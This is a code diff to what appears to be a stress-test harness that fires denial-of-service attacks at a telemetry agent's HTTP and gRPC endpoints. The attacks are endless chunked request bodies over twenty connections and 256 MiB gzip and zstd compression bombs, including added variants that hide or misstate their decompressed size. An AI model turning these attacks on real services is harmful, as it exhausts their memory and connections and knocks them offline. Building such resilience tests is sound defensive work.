@@ -2,7 +2,7 @@ import { once } from 'node:events';
 import { connect as connectHttp2, constants } from 'node:http2';
 import { connect, type Socket } from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
-import { gzipSync, zstdCompressSync } from 'node:zlib';
+import { gzipSync, constants as zlib, zstdCompressSync } from 'node:zlib';
 
 /** Where the attacked agent listens. */
 export interface Target {
@@ -38,13 +38,18 @@ export const attacks: Readonly<Record<string, Attack>> = {
 
   'bodies without end': async ({ http }, signal) => {
     using connections = new Connections();
-    const open = await Promise.all(Array.from({ length: 20 }, () => connections.open(http)));
     const head =
       'POST /v1/metrics HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-protobuf\r\nTransfer-Encoding: chunked\r\n\r\n';
     const piece = `10000\r\n${'x'.repeat(65_536)}\r\n`;
-    for (const socket of open) socket.write(head);
-    for (; !signal.aborted; await wait(5))
-      for (const socket of open) if (socket.writable && !socket.writableNeedDrain) socket.write(piece);
+    await Promise.all(
+      Array.from({ length: 20 }, () =>
+        untilAborted(signal, async () => {
+          const socket = await connections.open(http);
+          socket.write(head);
+          for (; socket.writable && !signal.aborted; await wait(5)) if (!socket.writableNeedDrain) socket.write(piece);
+        }),
+      ),
+    );
   },
 
   'messages of a gigabyte, announced': async ({ grpc }, signal) => {
@@ -53,9 +58,9 @@ export const attacks: Readonly<Record<string, Attack>> = {
   },
 
   'compressed bombs over gRPC': async ({ grpc }, signal) => {
-    const packed = { gzip: gzipSync(Buffer.alloc(256 << 20)), zstd: zstdCompressSync(Buffer.alloc(256 << 20)) };
+    const packed = bombs();
     await untilAborted(signal, async () => {
-      for (const [encoding, bytes] of Object.entries(packed)) {
+      for (const [encoding, bytes] of packed) {
         await Promise.all(
           Array.from({ length: 8 }, () => callGrpc(grpc, framed(1, bytes), { 'grpc-encoding': encoding })),
         );
@@ -64,9 +69,9 @@ export const attacks: Readonly<Record<string, Attack>> = {
   },
 
   'compressed bombs over HTTP': async ({ http }, signal) => {
-    const packed = { gzip: gzipSync(Buffer.alloc(256 << 20)), zstd: zstdCompressSync(Buffer.alloc(256 << 20)) };
+    const packed = bombs();
     await untilAborted(signal, async () => {
-      for (const [encoding, body] of Object.entries(packed)) {
+      for (const [encoding, body] of packed) {
         await Promise.all(Array.from({ length: 8 }, () => post(http, body, { 'content-encoding': encoding })));
       }
     });
@@ -201,6 +206,18 @@ async function post(address: string, body: Buffer, headers: Readonly<Record<stri
     signal: AbortSignal.timeout(2000),
   }).catch(() => undefined);
   await response?.arrayBuffer().catch(() => undefined);
+}
+
+/** 256 MiB of zeros; those that tell their size, and those that tell another or none. */
+function bombs(): readonly (readonly [encoding: string, bytes: Buffer])[] {
+  const zeros = Buffer.alloc(256 << 20);
+  const gzip = gzipSync(zeros);
+  return [
+    ['gzip', gzip],
+    ['gzip', Buffer.concat([gzip, gzipSync('x')])],
+    ['zstd', zstdCompressSync(zeros)],
+    ['zstd', zstdCompressSync(zeros, { params: { [zlib.ZSTD_c_contentSizeFlag]: 0 } })],
+  ];
 }
 
 /** A resource whose attribute is a list in a list, so many times. */
